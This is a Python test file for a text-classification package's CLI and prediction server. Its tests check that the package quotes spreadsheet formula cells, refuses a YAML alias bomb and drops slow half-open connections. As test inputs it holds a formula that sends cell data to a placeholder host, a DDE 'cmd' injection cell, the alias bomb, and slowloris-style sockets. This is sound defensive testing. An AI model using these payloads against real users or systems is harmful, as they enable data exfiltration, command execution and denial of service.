        assert client.post("/v1/predict", json={"texts": " a "}, headers=key).status_code == 200


def test_the_prediction_log_keys_its_text_hashes(trained, tmp_path, monkeypatch):
    import hashlib
    import hmac

    from starlette.testclient import TestClient

    from nlptransfer.serve import ServeConfig, create_app

    clf = TextClassifier.load(trained["full"])
    monkeypatch.setenv("NLPT_LOG_KEY", "a log key of the user")
    lines = {}
    for name, env in (("given", "NLPT_LOG_KEY"), ("random-1", None), ("random-2", None)):
        log = tmp_path / f"{name}.jsonl"
        with TestClient(create_app(clf, ServeConfig(prediction_log=str(log), log_key_env=env))) as client:
            assert client.post("/v1/predict", json={"texts": ["good movie", "bad film"]}).status_code == 200
        lines[name] = [json.loads(line) for line in log.read_text().splitlines()]
        assert [set(line) for line in lines[name]] == [{"time", "text_hmac_sha256", "hmac_key", "label", "score"}] * 2
        assert "good movie" not in log.read_text() and "a log key of the user" not in log.read_text()
        assert hashlib.sha256(b"good movie").hexdigest() not in log.read_text()
    given = hmac.new(b"a log key of the user", b"good movie", hashlib.sha256).hexdigest()
    assert lines["given"][0]["text_hmac_sha256"] == given
    assert lines["given"][0]["hmac_key"].startswith("env NLPT_LOG_KEY ")
    assert lines["random-1"][0]["hmac_key"].startswith("random per server start ")
    assert lines["random-1"][0]["text_hmac_sha256"] != lines["random-2"][0]["text_hmac_sha256"]
    assert lines["random-1"][0]["hmac_key"] != lines["random-2"][0]["hmac_key"]


def test_serve_drops_a_connection_that_never_finishes_its_header(trained):
    import socket
    import time

    from nlptransfer.serve.run import HEADER_TIMEOUT_S
    from tests.test_serve import server

    with server(trained["full"]) as (url, _):
        port = int(url.rsplit(":", 1)[1])
        started = time.monotonic()
        half = [socket.create_connection(("127.0.0.1", port)) for _ in range(20)]
        for i, s in enumerate(half):
            s.sendall(b"POST /v1/predict HTTP/1.1\r\nHost: x\r\n" if i % 2 else b"")
            s.settimeout(HEADER_TIMEOUT_S + 10)
        slow = socket.create_connection(("127.0.0.1", port))  # a byte every 0.5 s: the bound holds from its first byte
        slow.sendall(b"GET /health HTTP/1.1\r\nHost: x\r\nX-Slow: ")
        slow.settimeout(0.5)
        closed = False
        while not closed and time.monotonic() - started < HEADER_TIMEOUT_S + 3:
            try:
                slow.sendall(b"a")
                closed = slow.recv(1) == b""
            except (socket.timeout, TimeoutError):
                continue
            except OSError:  # reset by the server
                closed = True
        assert closed
        assert time.monotonic() - started < HEADER_TIMEOUT_S + 4
        for s in half:
            assert s.recv(100) == b""  # closed by the server
            s.close()
        assert time.monotonic() - started < HEADER_TIMEOUT_S + 4
        slow.close()
        import httpx

        assert httpx.get(url + "/health").status_code == 200


# --- issue 38: files in and out ---

def test_predict_reads_a_gzip_file_named_csv_as_its_texts_and_refuses_a_binary_one(trained, tmp_path, capsys):
    import gzip

    plain = write_csv(tmp_path / "in.csv", [(f"{'good' if i % 2 else 'bad'} film {i}", str(i)) for i in range(15)],
                      header=("text", "id"))
    packed = tmp_path / "packed.csv"
    packed.write_bytes(gzip.compress(plain.read_bytes()))
    assert main(["predict", str(trained["full"]), "--input", str(plain), "--output", str(tmp_path / "a.csv")]) == 0
    code, err, out = _main(["predict", trained["full"], "--input", packed, "--output", tmp_path / "b.csv"], capsys)
    assert code == 0 and f"read 15 rows of {packed} (csv, utf-8)" in out, err
    assert (tmp_path / "b.csv").read_bytes() == (tmp_path / "a.csv").read_bytes()
    png = tmp_path / "photo.csv"
    png.write_bytes(b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(range(256)) * 8)
    _one_error_line(_main(["predict", trained["full"], "--input", png, "--output", tmp_path / "c.csv"], capsys),
                    f"{png} is a PNG image, not a text file of CSV/TSV/JSONL")
    assert not (tmp_path / "c.csv").exists()


def test_predict_quotes_cells_a_spreadsheet_would_run_and_keeps_numbers_and_raw_cells_on_request(trained, tmp_path,
                                                                                               capsys):
    import csv

    rows = [("=HYPERLINK(\"http://x.example/?\"&A1)", "-1.5", "@SUM(1+1)"), ("good film", "+2", "-2+3"),
            ("'=already quoted", "3", "\tTAB"), ("bad film", "-0.25", "plain")]
    source = write_csv(tmp_path / "in.csv", rows, header=("text", "amount", "note"))
    for suffix, sep in ((".csv", ","), (".tsv", "\t")):
        out = tmp_path / f"o{suffix}"
        assert main(["predict", str(trained["full"]), "--input", str(source), "--output", str(out)]) == 0
        with open(out, newline="", encoding="utf-8") as f:
            written = list(csv.DictReader(f, delimiter=sep))
        assert [r["text"] for r in written] == ["'=HYPERLINK(\"http://x.example/?\"&A1)", "good film",
                                                "''=already quoted", "bad film"]
        assert [r["amount"] for r in written] == ["-1.5", "+2", "3", "-0.25"]  # numbers stay numbers
        assert [r["note"] for r in written] == ["'@SUM(1+1)", "'-2+3", "'\tTAB", "plain"]
    raw = tmp_path / "raw.csv"
    assert main(["predict", str(trained["full"]), "--input", str(source), "--output", str(raw), "--keep-formulas"]) == 0
    with open(raw, newline="", encoding="utf-8") as f:
        assert [(r["text"], r["note"]) for r in csv.DictReader(f)] == [(text, note) for text, _, note in rows]


def test_a_runs_predictions_csv_quotes_formula_texts_and_labels_and_reads_them_back_as_they_were(tiny_models,
                                                                                              tmp_path):
    import csv

    from nlptransfer.publish.repo_folder import reference

    rows = [(("=cmd|' /C calc'!A0 " if i % 5 == 0 else "") + text, "=bad" if label == "negative" else "@good")
            for i, (text, label) in enumerate(sentiment_rows(40))]
    data = write_csv(tmp_path / "reviews.csv", rows)
    run = _train(tiny_models["bert"], data, tmp_path / "safe", **{"data.test_fraction": 0.5})
    with open(run.path / "predictions.csv", newline="", encoding="utf-8") as f:
        written = list(csv.DictReader(f))
    texts = RunFolder(run.path).read_json("data_report")["rows_used"]["test"]
    assert len(written) == texts and {r["gold"] for r in written} == {"'=bad", "'@good"}
    assert {r["predicted"] for r in written} <= {"'=bad", "'@good"}
    formulas = [r["text"] for r in written if "calc" in r["text"]]
    assert formulas and all(t.startswith("'=cmd|") for t in formulas)
    assert not [r for r in written if r["text"][:1] in "=+-@"]
    back, _ = reference(RunFolder(run.path))  # what a push checks the reloaded model on: the texts as they were
    assert sorted(back) == sorted(t.removeprefix("'") for t in (r["text"] for r in written))
    from nlptransfer.data import load_splits
    from nlptransfer.recipe import read_saved
    from nlptransfer.report.build import _transfer_predictions

    recipe = read_saved(run.path / "recipe.yaml")  # the report checks the file holds the test rows the data gives
    probs, _ = _transfer_predictions(RunFolder(run.path), load_splits(recipe.data, recipe.training.seed), False)
    assert probs.shape == (texts, 2)
    kept = _train(tiny_models["bert"], data, tmp_path / "kept", **{"data.test_fraction": 0.5,
                                                                     "output.keep_formulas": True})
    with open(kept.path / "predictions.csv", newline="", encoding="utf-8") as f:
        assert {r["gold"] for r in csv.DictReader(f)} == {"=bad", "@good"}


def test_predict_refuses_to_write_over_its_own_input_by_any_path(trained, tmp_path, capsys):
    source = write_csv(tmp_path / "in.csv", [("good film", "1"), ("bad film", "2")], header=("text", "id"))
    before = source.read_bytes()
    (tmp_path / "sub").mkdir()
    (tmp_path / "link.csv").symlink_to(source)
    os.link(source, tmp_path / "hard.csv")
    for output in (source, tmp_path / "sub" / ".." / "in.csv", tmp_path / "link.csv", tmp_path / "hard.csv"):
        _one_error_line(_main(["predict", trained["full"], "--input", source, "--output", output], capsys),
                        f"is the input file {source}: writing the predictions would replace it")
    _one_error_line(_main(["predict", trained["full"], "--input", tmp_path / "link.csv", "--output", source], capsys),
                    "writing the predictions would replace it")
    assert source.read_bytes() == before
    assert sorted(p.name for p in tmp_path.iterdir()) == ["hard.csv", "in.csv", "link.csv", "sub"]


def test_predict_writes_nested_parquet_columns_as_json_in_csv(trained, tmp_path):
    source = tmp_path / "in.parquet"
    pd.DataFrame({"text": ["good film", "bad film"], "tags": [["a", "b"], []],
                  "meta": [{"k": 1, "v": "x"}, {"k": 2, "v": None}], "score": [0.5, -1.5]}).to_parquet(source)
    out = tmp_path / "o.csv"
    assert nlptransfer.predict_file(trained["full"], str(source), str(out)) == 2
    frame = pd.read_csv(out, keep_default_na=False)
    assert [json.loads(t) for t in frame["tags"]] == [["a", "b"], []]
    assert [json.loads(m) for m in frame["meta"]] == [{"k": 1, "v": "x"}, {"k": 2, "v": None}]
    assert frame["score"].tolist() == [0.5, -1.5]


def test_predict_cuts_a_text_over_the_character_bound_and_says_so(trained, tmp_path, capsys):
    long = "good film " * 15_000
    source = write_csv(tmp_path / "in.csv", [("bad film", "1"), (long, "2"), (long[:100_000], "3")],
                       header=("text", "id"))
    code, err, out = _main(["predict", trained["full"], "--input", source, "--output", tmp_path / "o.csv"], capsys)
    assert code == 0, err
    assert ("warning: 1 texts longer than 100,000 characters were cut to them before predicting (rows 2)" in out)
    frame = pd.read_csv(tmp_path / "o.csv", keep_default_na=False)
    assert frame["text"].str.len().tolist() == [8, len(long), 100_000]  # the input is written as it was
    assert frame.loc[1, "prob_positive"] == frame.loc[2, "prob_positive"]  # predicted on its first 100,000



def test_every_tokenization_cuts_a_text_at_the_character_bound_first(trained):
    """The Python API and serve tokenize through tokens.tokenize too: a text past MAX_TEXT_CHARS reaches the tokenizer
    cut (its ids, with no token limit, are those of its first 100,000 characters)."""
    from nlptransfer import TextClassifier
    from nlptransfer.tokens import tokenize

    tokenizer = TextClassifier.load(trained["full"]).tokenizer
    words = "good film " * 15_000
    whole = tokenize(tokenizer, [words, words[:100_000]], 10**7)
    assert whole.input_ids[0] == whole.input_ids[1] and len(whole.input_ids[0]) > 10_000

# --- issue 38: recipes and the folder hub ---

def test_a_yaml_alias_bomb_is_refused_at_once_in_one_short_line(tmp_path, capsys):
    """Defect 3: about 550 bytes of YAML whose aliases under data.label_map repeat "lol" 43 million times."""
    import time

    anchors = ['    a0: &a0 ["lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol"]']
    anchors += [f"    a{i}: &a{i} [{', '.join([f'*a{i - 1}'] * 9)}]" for i in range(1, 8)]
    bomb = tmp_path / "bomb.yaml"
    bomb.write_text("data:\n  label_map:\n" + "\n".join(anchors) + "\n")
    started = time.perf_counter()
    done = _main(["recipes", "validate", bomb], capsys)
    assert time.perf_counter() - started < 2
    _one_error_line(done, "is over 1,000,000 characters written out with its aliases (*name) repeated")
    assert len(done[1]) < 300, done[1][:2000]
    long = _main(["recipes", "validate", "sentiment-minilm", "training.metric=" + "m" * 120_000], capsys)
    _one_error_line(long, "got '" + "m" * 80 + "'... (120,000 characters)")
    assert len(long[1]) < 300, long[1][:2000]


def test_a_run_name_past_the_file_systems_limit_is_refused_before_the_data_stage(tiny_models, tmp_path, capsys):
    """Defect 10: a run folder name of more than 255 bytes ended in an OSError traceback after the data stage."""
    data, out = write_csv(tmp_path / "reviews.csv", sentiment_rows(40)), tmp_path / "runs"
    run = ["run", "sentiment-minilm", "--data", data, f"model={tiny_models['bert']}", f"output.dir={out}"]
    for name, size in (("n" * 256, 256), ("é" * 101, 202)):  # bytes in UTF-8, not characters
        _one_error_line(_main(run + ["--name", name], capsys),
                        f"output.name '{name[:80]}'... ({len(name)} characters) is {size} bytes in UTF-8: a run "
                        f"folder name may have at most 200")
    _one_error_line(_main(run + ["name=" + "r" * 201], capsys), "name 'rrrr")
    assert not out.exists()
    assert _main(["recipes", "validate", "sentiment-minilm", "output.name=" + "é" * 100], capsys)[0] == 0  # 200 bytes
    _one_error_line(_main(run + [f"output.dir={tmp_path / ('d' * 256)}"], capsys),
                    "output.dir has a folder name of more than 255 bytes")
